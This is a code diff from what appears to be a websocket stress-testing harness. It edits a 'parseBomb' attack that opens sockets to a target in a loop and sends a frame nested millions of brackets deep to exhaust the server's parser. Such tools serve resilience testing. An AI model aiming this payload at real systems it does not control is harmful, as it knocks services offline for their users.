@@ -172,7 +172,7 @@ const connectPackets: Attack = async (url, stop) => {
 const parseBomb: Attack = async (url, stop) => {
   const tally: AttackTally = { opened: 0, refused: 0, closedByServer: 0 };
   const depth = 4 << 20;
-  const frame = `42["hello",${'['.repeat(depth)}1${']'.repeat(depth)}]`;
+  const frame = `2["hello",${'['.repeat(depth)}1${']'.repeat(depth)}]`;
   while (!stop.aborted) {
     const { socket, connected } = await rawSocket(url);
     tally.opened++;
